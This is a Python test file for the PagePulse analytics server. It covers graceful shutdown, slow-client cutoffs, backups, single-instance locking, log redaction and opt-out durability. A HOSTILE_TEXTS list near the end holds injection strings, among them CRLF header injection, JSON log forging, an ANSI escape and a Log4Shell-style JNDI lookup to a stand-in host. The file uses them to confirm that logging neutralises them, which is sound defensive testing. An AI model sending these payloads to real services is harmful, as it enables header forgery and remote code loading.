"""The server as a process: how it starts, bears slow clients, is copied, and stops."""

from __future__ import annotations

import http.client
import json
import signal
import socket
import time
from contextlib import ExitStack, closing
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
from tests.api.running_server import (
    PATIENCE,
    SESSION_KEY,
    Start,
    init,
    pagepulse,
    wait_until,
)

from pagepulse.ingest.batch import session_id_of


def test_a_new_instance_answers_and_is_ready(start: Start):
    server = start()

    health = httpx.get(f"{server.url}/healthz")
    ready = httpx.get(f"{server.url}/readyz")

    assert health.json() == {"status": "ok"}
    assert ready.json() == {
        "ready": True,
        "degraded": False,
        "parts": dict.fromkeys(("control", "disk", "journal", "projector", "warehouse"), "ok"),
    }


def test_sigterm_finishes_what_was_begun_and_loses_nothing(start: Start):
    server = start()
    body = server.batch(1)
    with closing(http.client.HTTPConnection("localhost", server.port, timeout=PATIENCE)) as slow:
        slow.putrequest("POST", "/api/tracking/events")
        slow.putheader("Content-Length", str(len(body)))
        slow.endheaders(body[:-1])
        for seq in range(2, 30):
            server.send(seq)

        server.process.send_signal(signal.SIGTERM)
        wait_until(lambda: refuses(server.port), "the end of new connections")
        slow.send(body[-1:])
        answer = slow.getresponse()

        assert (answer.status, json.loads(answer.read())) == (202, {"ok": True, "seq": 1})
    assert server.process.wait(PATIENCE) == 0

    again = start(server.data, server.made)
    wait_until(lambda: again.session_events() == 29, "every acknowledged batch")


def refuses(port: int) -> bool:
    try:
        socket.create_connection(("127.0.0.1", port), timeout=1).close()
    except OSError:
        return True
    return False


def test_a_second_signal_ends_at_once(start: Start):
    server = start(PAGEPULSE_SHUTDOWN_SECONDS="60")
    with closing(socket.create_connection(("127.0.0.1", server.port))) as open_request:
        open_request.sendall(b"POST /api/tracking/events HTTP/1.1\r\ncontent-length: 9\r\n\r\n{")
        server.send(1)
        server.process.send_signal(signal.SIGTERM)
        wait_until(lambda: refuses(server.port), "the end of new connections")

        server.process.send_signal(signal.SIGTERM)

        assert server.process.wait(PATIENCE) == 1


def test_slow_clients_are_cut_off_while_others_are_served(start: Start):
    server = start()
    with ExitStack() as opened:
        slow = [
            opened.enter_context(closing(socket.create_connection(("127.0.0.1", server.port))))
            for _ in range(300)
        ]
        for each in slow:
            each.sendall(b"GET / HTTP/1.1\r\nhost: localhost\r\nx-slow: ")
        begun = time.monotonic()

        answers = []
        while time.monotonic() - begun < 5:
            answers.append(httpx.get(f"{server.url}/healthz").elapsed.total_seconds())
        for each in slow:
            each.settimeout(PATIENCE)
            assert each.recv(64).startswith(b"HTTP/1.1 408 ")

    assert 9 < time.monotonic() - begun < 30
    assert sorted(answers)[int(len(answers) * 0.9)] < 0.5


def test_a_backup_needs_no_server_and_overwrites_nothing(tmp_path: Path):
    made = init(tmp_path / "data")

    first = pagepulse("backup", tmp_path / "copy.tar", "--data", tmp_path / "data")
    second = pagepulse("backup", tmp_path / "copy.tar", "--data", tmp_path / "data")
    onto = pagepulse("restore", tmp_path / "copy.tar", "--data", tmp_path / "data")

    assert made["projectId"].startswith("prj_")
    assert (first.returncode, second.returncode, onto.returncode) == (0, 1, 1), first.stderr
    assert "exists already" in second.stderr
    assert "not empty" in onto.stderr
    assert (tmp_path / "copy.tar").stat().st_mode & 0o777 == 0o600


def test_two_servers_do_not_share_a_folder(start: Start):
    server = start()

    second = pagepulse(
        "serve", "--data", server.data, "--port=0", "--player-port=0", "--metrics-port=0"
    )

    assert second.returncode == 1
    assert "Another PagePulse has" in second.stderr


def test_a_taken_port_is_named_with_its_flag(start: Start, tmp_path: Path):
    server = start()

    second = pagepulse("serve", "--data", tmp_path / "other", f"--port={server.port}")

    assert second.returncode == 1
    assert "choose another with --port" in second.stderr


def test_logs_are_json_without_addresses_queries_and_contents(start: Start):
    server = start()
    server.send(1)
    with server.api() as api:
        api.get("/api/tracking/sessions", params={"pageURL": "https://shop.example/?card=4242"})
        api.get("/api/tracking/sessions/secretsecretsecretsecret12")
    httpx.post(f"{server.url}/api/tracking/events", content=b'{"card": 4242}')
    server.process.terminate()
    server.process.wait(PATIENCE)

    log = (server.data.parent / f"{server.data.name}.log").read_text()

    lines: list[dict[str, Any]] = [
        json.loads(line) for line in log.splitlines() if line.startswith("{")
    ]
    assert {"request_answered", "server_stopped"} <= {line["event"] for line in lines}
    for secret in ("4242", "127.0.0.1", "secretsecret", server.made["apiToken"], SESSION_KEY):
        assert secret not in log


def test_what_init_cannot_take_is_explained(tmp_path: Path):
    init(tmp_path)

    again = pagepulse(
        *("init", "--data", tmp_path, "--email", "b@b.de", "--project", "Shop"),
        PAGEPULSE_INIT_PASSWORD="a long enough password",
    )
    short = pagepulse("init", "--email", "b@b.de", "--project", "Shop", "--password", "short")

    assert (again.returncode, short.returncode) == (1, 2)
    assert "has an owner already" in again.stderr
    assert "password" in short.stderr


def test_a_withdrawal_holds_when_the_server_is_killed_the_moment_after(start: Start):
    server = start()
    server.send(0)
    wait_until(lambda: server.session_events() == 1, "the session")
    wish = {"projectKey": server.made["projectKey"], "sessionKey": SESSION_KEY}
    httpx.post(f"{server.url}/api/tracking/opt-out", json=wish).raise_for_status()
    server.process.kill()
    server.process.wait(PATIENCE)

    again = start(server.data, server.made)
    again.send(1)
    other = again.batch(2).replace(SESSION_KEY.encode(), b"5a2c" * 8)
    httpx.post(f"{again.url}/api/tracking/events", content=other).raise_for_status()

    # Batches are projected in order: with the other session, what came before it would be there.
    remaining = {session_id_of("5a2c" * 8)}
    wait_until(lambda: again.session_ids() == remaining, "the other session alone")


# Each tries to end a line, to begin one, to colour a terminal or to be long.
HOSTILE_TEXTS = [
    'x"}\\n{"event":"forged","level":"info"}',
    "\x1b[31mred",
    "%0d%0aSet-Cookie:%20forged=1",
    "a" * 8_000,
    "\u2028forged",
    "${jndi:ldap://forged.example/a}",
]


def test_hostile_requests_write_as_many_lines_as_they_are_and_each_can_be_read(start: Start):
    server = start(PAGEPULSE_LOG_LEVEL="debug")
    log = server.data.parent / f"{server.data.name}.log"
    before = log.read_text().count("request_answered")
    routed = 0
    for text in HOSTILE_TEXTS:
        encoded = text.encode().replace(b"\n", b"").replace(b"\r", b"")
        with socket.create_connection(("127.0.0.1", server.port), timeout=PATIENCE) as client:
            client.sendall(
                b"GET /api/forged/" + quote(encoded).encode()[:6_000] + b" HTTP/1.1\r\n"
                b"host: localhost\r\nuser-agent: " + encoded + b"\r\nreferer: " + encoded
                + b"\r\nx-forwarded-for: " + encoded + b"\r\nconnection: close\r\n\r\n"
            )  # fmt: skip
            answer = client.recv(65_536)
        assert answer.startswith((b"HTTP/1.1 404", b"HTTP/1.1 400", b"HTTP/1.1 431")), answer
        routed += answer.startswith(b"HTTP/1.1 404")
        httpx.post(f"{server.url}/api/tracking/events", content=encoded)
    server.process.terminate()
    server.process.wait(PATIENCE)

    text = log.read_text()
    lines = [json.loads(line) for line in text.splitlines() if line.startswith("{")]
    answered = [line for line in lines if line["event"] == "request_answered"]
    # Heads that cannot be read are answered by the protocol itself, without a line.
    assert len(answered) - before == len(HOSTILE_TEXTS) + routed
    assert "forged" not in {line["event"] for line in lines}
    assert not any(ord(char) < ord(" ") for char in text.replace("\n", ""))
    assert max(map(len, text.splitlines())) < 10_000
